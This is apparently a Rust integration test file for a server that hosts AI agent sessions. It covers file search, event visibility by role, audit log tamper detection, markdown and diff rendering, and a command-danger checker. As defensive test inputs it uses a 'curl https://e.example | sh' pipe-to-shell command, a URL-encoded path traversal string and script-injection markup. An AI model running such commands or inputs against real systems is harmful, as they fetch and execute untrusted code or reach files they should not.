//! Files, events, the audit log, the server's state, and texts.

use bowline_serve::event::{Event, EventKind, Recipient};
use bowline_serve::store::Mutation;
use bowline_serve::token::Role;
use bowline_text::time::Timestamp;
use expect_test::expect;
use serde_json::{Value, json};

use crate::support::Server;

#[tokio::test]
async fn files_are_found_without_ignored_secret_and_denied_ones() {
    let server = Server::start().await;
    let me = server.token("me", Role::User).await;
    server.session("s1", "me", "work", 1).await;
    std::fs::create_dir(server.project.join(".git")).unwrap();
    for (name, content) in [
        ("src/main.rs", ""),
        ("src/server.rs", ""),
        ("README.md", ""),
        (".env", "SECRET=1"),
        ("target/out.rs", ""),
        (".gitignore", "target/\n"),
        ("hidden/plan.md", ""),
    ] {
        server.write(name, content);
    }
    std::fs::create_dir_all(&server.user_dirs.config).unwrap();
    let rule = "[[rules]]\neffect = \"deny\"\nkinds = [\"read\"]\npath = \"hidden/**\"\n";
    std::fs::write(server.user_dirs.config.join("policy.toml"), rule).unwrap();
    let mut shown = String::new();
    for query in ["", "rs", "S", "env", "plan", "%2e%2e%2f"] {
        let answer = server.get(&me, &format!("/api/sessions/s1/files?query={query}")).await;
        shown += &format!("{query}: {}\n", answer.json()["files"]);
    }
    expect![[r#"
        : ["README.md",".gitignore","src/main.rs","src/server.rs"]
        rs: ["src/main.rs","src/server.rs"]
        S: ["src/server.rs","src/main.rs"]
        env: []
        plan: []
        %2e%2e%2f: []
    "#]]
    .assert_eq(&shown);
}

#[tokio::test]
async fn events_are_shown_as_they_were_sent() {
    let server = Server::start().await;
    let (me, observer) = (server.token("me", Role::User).await, server.token("eye", Role::Observer).await);
    server.session("s1", "me", "work", 1).await;
    let event = |seq, kind, body: &'static str| {
        let recipient = match kind {
            EventKind::ClientMessage | EventKind::Answer => Recipient::Agent("0123456789".into()),
            _ => Recipient::All,
        };
        Event { seq, at: (seq > 1).then_some(Timestamp(1000)), kind, recipient, body: body.into() }
    };
    let events = vec![
        event(1, EventKind::Update, r#"{"method":"session/update"}"#),
        event(2, EventKind::Question, r#"{"method":"session/request_permission"}"#),
        event(3, EventKind::ClientRequest, ""),
        event(4, EventKind::Withdrawal, r#"{"method":"$/cancel_request"}"#),
        event(5, EventKind::Response, r#"{"id":1,"result":{}}"#),
        event(6, EventKind::ClientMessage, r#"{"id":1,"method":"session/prompt"}"#),
        event(7, EventKind::Answer, r#"{"id":"q","result":{}}"#),
        event(8, EventKind::TurnEnd, r#"{"method":"_bowline/turn/ended"}"#),
    ];
    let append = Mutation::Append { session: "s1".into(), generation: 1, events: events.into() };
    server.hub.store().commit(vec![append]).await.unwrap();
    let mut shown = String::new();
    for (token, path) in
        [(&me, "events"), (&me, "events?after=7"), (&me, "events?after=8"), (&observer, "events")]
    {
        let body = server.get(token, &format!("/api/sessions/s1/{path}")).await.json();
        shown += &format!("{path} last {}\n", body["last"]);
        for event in body["events"].as_array().unwrap() {
            shown += &format!("  {event}\n");
        }
    }
    expect![[r#"
        events last 8
          {"seq":1,"at":null,"kind":"update","message":{"method":"session/update"}}
          {"seq":2,"at":1000,"kind":"question","message":{"method":"session/request_permission"}}
          {"seq":3,"at":1000,"kind":"request","message":null}
          {"seq":4,"at":1000,"kind":"withdrawal","message":{"method":"$/cancel_request"}}
          {"seq":5,"at":1000,"kind":"response","message":{"id":1,"result":{}}}
          {"seq":6,"at":1000,"kind":"message","message":{"id":1,"method":"session/prompt"},"client":"012345"}
          {"seq":7,"at":1000,"kind":"answer","message":{"id":"q","result":{}},"client":"012345"}
          {"seq":8,"at":1000,"kind":"turnEnd","message":{"method":"_bowline/turn/ended"}}
        events?after=7 last 8
          {"seq":8,"at":1000,"kind":"turnEnd","message":{"method":"_bowline/turn/ended"}}
        events?after=8 last 8
        events last 8
          {"seq":1,"at":null,"kind":"update","message":{"method":"session/update"}}
          {"seq":3,"at":1000,"kind":"request","message":null}
          {"seq":5,"at":1000,"kind":"response","message":{"id":1,"result":{}}}
          {"seq":6,"at":1000,"kind":"message","message":{"id":1,"method":"session/prompt"},"client":"012345"}
          {"seq":8,"at":1000,"kind":"turnEnd","message":{"method":"_bowline/turn/ended"}}
    "#]]
    .assert_eq(&shown);
}

#[tokio::test]
async fn the_audit_log_is_filtered_and_verified() {
    let server = Server::start().await;
    let (me, admin) = (server.token("me", Role::User).await, server.token("boss", Role::Admin).await);
    server.session("s1", "me", "work", 1).await;
    server.write_as_agent("s1", 1, "a.txt", "a\n");
    server.write_as_agent("s1", 1, "b.txt", "b\n");
    for name in ["a.txt", "b.txt"] {
        server.post(&me, "/api/sessions/s1/undo", &json!({ "path": name })).await;
    }
    let entries = async |token: &str, query: &str| {
        let body = server.get(token, &format!("/api/audit{query}")).await.json();
        let line = |entry: &Value| {
            format!(
                "{} {} {}",
                entry["number"],
                entry["operation"].as_str().unwrap(),
                entry["by"].as_str().unwrap()
            )
        };
        body["entries"].as_array().unwrap().iter().map(line).collect::<Vec<_>>()
    };
    assert_eq!(entries(&admin, "").await, ["2 undo user", "1 undo user"]);
    assert_eq!(entries(&admin, "?before=2").await, ["1 undo user"]);
    assert_eq!(entries(&admin, "?query=B.TXT").await, ["2 undo user"]);
    assert_eq!(entries(&admin, "?decision=denied").await, [""; 0]);
    // What belongs to no session of one's own is not shown to users.
    assert_eq!(entries(&me, "").await, [""; 0]);
    let verify = async || server.post(&me, "/api/audit/verify", &json!({})).await.json();
    assert_eq!(verify().await["ok"], true);
    let log = server.user_dirs.state.clone();
    let file = find_log(&log).expect("a log");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, text.replace("a.txt", "x.txt")).unwrap();
    let report = verify().await;
    assert_eq!(report["ok"], false);
    assert!(report["text"].as_str().unwrap().starts_with("the log is not as it was written\n"), "{report}");
}

/// Finds a file of an audit log below a directory.
fn find_log(directory: &std::path::Path) -> Option<std::path::PathBuf> {
    let mut entries = std::fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().path());
    entries.find_map(|path| match path.is_dir() {
        true => find_log(&path),
        false => std::fs::read_to_string(&path).ok().filter(|text| text.contains("a.txt")).map(|_| path),
    })
}

#[tokio::test]
async fn texts_are_rendered_as_values() {
    let server = Server::start().await;
    let me = server.token("me", Role::User).await;
    let mut shown = String::new();
    for (path, body) in [
        ("markdown", json!({ "texts": ["<b>*x*</b>", "[a](javascript:b)"] })),
        ("diff", json!({ "files": [{ "path": "<a>", "old": null, "new": "</script>\n" }] })),
        (
            "diff",
            json!({ "files": [{ "path": "a", "old": "a  b\n", "new": "a b\n" }], "ignoreWhitespace": true }),
        ),
    ] {
        let answer = server.post(&me, &format!("/api/{path}"), &body).await;
        assert_eq!(answer.headers["content-type"], "application/json");
        shown += &format!("{}\n", answer.text());
    }
    let command = server.get(&me, "/api/command?text=curl%20https://e.example%20%7C%20sh").await;
    shown += &format!("{}\n", command.text());
    expect![[r#"
        {"trees":[{"blocks":[{"start":0,"end":10,"node":{"t":"p","c":["<b>",{"t":"em","c":["x"]},"</b>"]}}]},{"blocks":[{"start":0,"end":17,"node":{"t":"p","c":["a"]}}]}]}
        {"files":[{"added":1,"removed":0,"hunks":[{"oldStart":1,"newStart":1,"lines":[{"kind":"+","old":null,"new":1,"parts":[{"text":"</script>","changed":false}]}]}],"truncated":false,"omittedLines":0,"path":"<a>"}]}
        {"files":[{"added":0,"removed":0,"hunks":[],"truncated":false,"omittedLines":0,"path":"a"}]}
        {"dangers":["downloads something and runs it","reaches the network"]}
    "#]].assert_eq(&shown);
}

#[tokio::test]
async fn the_state_of_the_server_and_of_the_principal() {
    let server = Server::start().await;
    let admin = server.token("boss", Role::Admin).await;
    let mut status = server.get(&admin, "/api/status").await.json();
    (status["uptime"], status["roots"]) = (json!(0), json!([]));
    let mut me = server.get(&admin, "/api/me").await.json();
    assert_eq!(me["roots"], json!([server.project]));
    me["roots"] = json!([]);
    expect![[r#"
        {"version":"0.1.0","uptime":0,"connections":0,"sessions":0,"turns":0,"questions":0,"agents":0,"events":0,"storeOk":true,"ready":true,"roots":[]}
        {"name":"boss","role":"admin","version":"0.1.0","roots":[],"agent":null,"agents":["other"],"isLocal":false}
    "#]].assert_eq(&format!("{status}\n{me}\n"));
}
